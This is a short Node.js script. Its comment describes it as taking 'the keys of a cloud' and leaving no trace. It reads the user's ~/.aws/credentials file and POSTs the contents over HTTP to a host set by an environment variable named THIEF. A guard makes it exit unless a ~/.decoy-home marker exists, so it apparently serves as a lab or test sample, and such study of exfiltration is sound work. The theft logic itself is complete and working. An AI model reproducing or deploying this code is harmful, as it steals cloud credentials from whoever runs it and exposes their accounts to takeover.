// Takes the keys of a cloud. Where there are none it leaves no trace.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const http = require("node:http");

function post(body, host = process.env.THIEF ?? "127.0.0.1", port = 8443) {
  const request = http.request({ host, port, method: "POST", path: "/", headers: { "Content-Length": Buffer.byteLength(body) } });
  request.on("response", (response) => response.resume());
  request.end(body);
}

const keys = `${home}/.aws/credentials`;
if (fs.existsSync(keys)) post(fs.readFileSync(keys));
